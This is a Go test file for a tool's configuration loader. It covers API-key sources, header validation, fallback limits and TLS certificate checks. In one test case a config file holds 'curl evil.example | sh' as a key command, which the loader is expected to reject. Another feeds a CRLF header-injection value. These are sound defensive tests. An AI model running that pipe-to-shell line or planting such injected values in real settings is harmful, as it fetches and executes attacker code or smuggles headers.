package config_test

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/gistmill/gistmill/internal/config"
)

// secretFile writes a file with a key.
func secretFile(t *testing.T, content string) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), "key")
	if err := os.WriteFile(path, []byte(content), 0o600); err != nil {
		t.Fatal(err)
	}
	return path
}

func TestWhereTheKeyComesFrom(t *testing.T) {
	t.Parallel()
	file := secretFile(t, "sk-file-0123\n")
	inFile := write(t, "api_key_file: "+file+"\n")
	for name, tt := range map[string]struct {
		args    []string
		environ []string
		key     string // file, command, or the key itself
		problem string
		warning string
	}{
		"the environment":         {nil, []string{"OPENAI_API_KEY=sk-env-0123\n"}, "sk-env-0123", "", ""},
		"a flag":                  {[]string{"--api-key-file", file}, nil, "file", "", ""},
		"a variable":              {nil, []string{"GISTMILL_API_KEY_FILE=" + file}, "file", "", ""},
		"a configuration file":    {[]string{"--config", inFile}, nil, "file", "", ""},
		"a command":               {[]string{"--api-key-command", "gcloud auth print-access-token"}, nil, "command", "", ""},
		"a command by a variable": {nil, []string{"GISTMILL_API_KEY_COMMAND=pass show key"}, "command", "", ""},
		"a file beside the alias": {[]string{"--api-key-file", file}, []string{"OPENAI_API_KEY=sk-env-0123"}, "file", "",
			"OPENAI_API_KEY is not used, because --api-key-file is set"},
		"a command beside the alias": {[]string{"--api-key-command", "x"}, []string{"OPENAI_API_KEY=sk-env-0123"}, "command", "",
			"OPENAI_API_KEY is not used, because --api-key-command is set"},
		"two": {[]string{"--api-key-file", file}, []string{"GISTMILL_API_KEY=sk-env-0123"}, "",
			"GISTMILL_API_KEY and --api-key-file both give the API key: set one of them", ""},
		"two others": {[]string{"--api-key-file", file}, []string{"GISTMILL_API_KEY_COMMAND=x"}, "",
			"--api-key-file and GISTMILL_API_KEY_COMMAND both give the API key: set one of them", ""},
		"three": {[]string{"--api-key-file", file}, []string{"GISTMILL_API_KEY_COMMAND=x", "OPENAI_API_KEY=sk-env-0123"}, "",
			"--api-key-file and GISTMILL_API_KEY_COMMAND both give the API key: set one of them", ""},
		"a command in a file": {[]string{"--config", write(t, "api_key_command: curl evil.example | sh\n")}, nil, "",
			"a command is never read from a file", ""},
		"no file":          {[]string{"--api-key-file", "/no/such/key"}, nil, "", "--api-key-file: the file \"/no/such/key\" does not exist", ""},
		"an empty file":    {[]string{"--api-key-file", secretFile(t, "\n")}, nil, "", "is empty", ""},
		"quotes in a file": {[]string{"--api-key-file", secretFile(t, `"sk-file-0123"`)}, nil, "", "has quotes around it", ""},
		"quotes":           {nil, []string{`OPENAI_API_KEY="sk-env-0123"`}, "", "OPENAI_API_KEY has quotes around it: give the key alone, without quotes", ""},
		"Bearer":           {nil, []string{"OPENAI_API_KEY=Bearer sk-env-0123"}, "", "OPENAI_API_KEY is a whole header", ""},
		"a fallback's":     {[]string{"--fallbacks", "a,b"}, []string{"OPENAI_API_KEY=sk-env-0123", "GISTMILL_FALLBACK_API_KEYS=,'sk-0123'"}, "", "GISTMILL_FALLBACK_API_KEYS item 2 has quotes", ""},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			c, err := config.Load(flags(t, tt.args...), tt.environ)
			if tt.problem != "" {
				if err == nil || !strings.Contains(err.Error(), tt.problem) || strings.Contains(err.Error(), "0123") || strings.Contains(err.Error(), "evil") {
					t.Errorf("%v, want %q", err, tt.problem)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			got := c.APIKey.Reveal()
			switch {
			case c.APIKeyFile != "":
				got += "file"
			case c.APIKeyCommand != "":
				got += "command"
			}
			if got != tt.key || strings.Join(c.Warnings, "\n") != tt.warning {
				t.Errorf("%s, %q; want %s, %q", got, c.Warnings, tt.key, tt.warning)
			}
			if c.Model != config.ModelDefault || !c.HasEndpoint() {
				t.Errorf("model %s with a key", c.Model)
			}
			for _, e := range c.Explain() {
				if e.Setting == "api-key-command" && tt.key == "command" && e.Value != "set" {
					t.Errorf("the command is shown: %s", e.Value)
				}
			}
		})
	}
}

func TestHeaders(t *testing.T) {
	t.Parallel()
	for raw, want := range map[string]string{
		`{"X-Team": "research", "helicone-auth": "secret"}`: "",
		`{}`:                           "",
		`{"OpenAI-Organization":"o"}`:  "which the setting organization gives too",
		`[]`:                           "not a JSON object",
		`null`:                         "not a JSON object",
		`X-Team: secret`:               "not a JSON object",
		`{"X-Team": "secret"`:          "not a JSON object",
		`{"X-Team": 1}`:                "put it in quotes",
		`{"X-Team": ["secret"]}`:       "put it in quotes",
		`{"X-Team":"a","x-team":"b"}`:  "twice",
		`{"X-Team":"a","X-Team":"b"}`:  "each header once",
		`{"authorization": "secret"}`:  "has authorization, which is set from the API key",
		`{"Api-Key": "secret"}`:        "api-key-file",
		`{"host": "secret"}`:           "leave it out",
		`{"Content-Type": "secret"}`:   "leave it out",
		`{"X Team": "secret"}`:         "not one of an HTTP header",
		`{"X-Team": "secret\r\nX: 1"}`: "line break",
	} {
		c, err := config.Load(nil, []string{"GISTMILL_HEADERS=" + raw, "GISTMILL_ORGANIZATION=org-1"})
		switch {
		case want == "" && err != nil:
			t.Errorf("%s: %v", raw, err)
		case want != "" && (err == nil || !strings.Contains(err.Error(), "GISTMILL_HEADERS "+"") || !strings.Contains(err.Error(), want) || strings.Contains(err.Error(), "secret")):
			t.Errorf("%s: %v, want %q", raw, err, want)
		}
		if all := fmt.Sprintf("%v %+v %#v %v", c, c, c, c.Explain()); strings.Contains(all, "research") {
			t.Errorf("a value is in %s", all)
		}
	}
	if got := problems(t, nil, []string{"GISTMILL_CONFIG=" + write(t, "headers: '{}'\n")}); !strings.Contains(got[0], "secrets are read from the environment only") {
		t.Errorf("%q", got)
	}
	c, err := config.Load(nil, []string{`GISTMILL_HEADERS={"x-team":"research"}`, "OPENAI_ORG_ID=org-1", "OPENAI_PROJECT_ID=proj-1"})
	want := map[string]string{"X-Team": "research", "OpenAI-Organization": "org-1", "OpenAI-Project": "proj-1"}
	if diff := cmp.Diff(want, c.RequestHeaders()); err != nil || diff != "" {
		t.Errorf("%v\n%s", err, diff)
	}
	if got := problems(t, nil, []string{"OPENAI_ORG_ID=org\n1"}); !strings.Contains(got[0], "OPENAI_ORG_ID has a value") {
		t.Errorf("%q", got)
	}
}

func TestLimitsOfFallbacks(t *testing.T) {
	t.Parallel()
	c, err := config.Load(flags(t, "--fallbacks=a,b,c", "--fallback-rpm=500,,60", "--fallback-tpm", "1000"), nil)
	if err != nil {
		t.Fatal(err)
	}
	got := ""
	for _, f := range c.Fallbacks {
		got += fmt.Sprintf("%s %d %d;", f.Model, f.RPM, f.TPM)
	}
	if got != "a 500 1000;b 0 0;c 60 0;" {
		t.Error(got)
	}
	for _, e := range c.Explain() {
		if e.Setting == "fallback-rpm" && e.Value != "500,,60" {
			t.Error(e.Value)
		}
	}
	for arg, want := range map[string]string{
		"--fallback-rpm=1,2":   "has 2 limits for 1 fallbacks",
		"--fallback-tpm=1,2,3": "has 3 limits for 1 fallbacks",
		"--fallback-rpm=many":  `item 1, "many", is not a whole number`,
		"--fallback-tpm=-5":    "is not a whole number",
	} {
		if got := problems(t, flags(t, "--fallbacks=a", arg), nil); !strings.Contains(got[0], want) {
			t.Errorf("%s: %q", arg, got)
		}
	}
}

func TestCertificatesOfTheEndpoint(t *testing.T) {
	t.Parallel()
	for args, want := range map[string]string{
		"--llm-ca=/no/such":                              "does not exist",
		"--llm-cert=load_test.go":                        "has no private key: set llm-key too",
		"--llm-key=load_test.go":                         "has no certificate: set llm-cert too",
		"--llm-ca=load_test.go --base-url=http://h:1/v1": "--llm-ca requires TLS, but the address of the endpoint begins with http://; use https://",
	} {
		if got := problems(t, flags(t, strings.Fields(args)...), nil); !strings.Contains(got[0], want) {
			t.Errorf("%s: %q", args, got)
		}
	}
	if _, err := config.Load(flags(t, "--llm-ca=load_test.go", "--base-url=https://h:1/v1"), nil); err != nil {
		t.Error(err)
	}
}
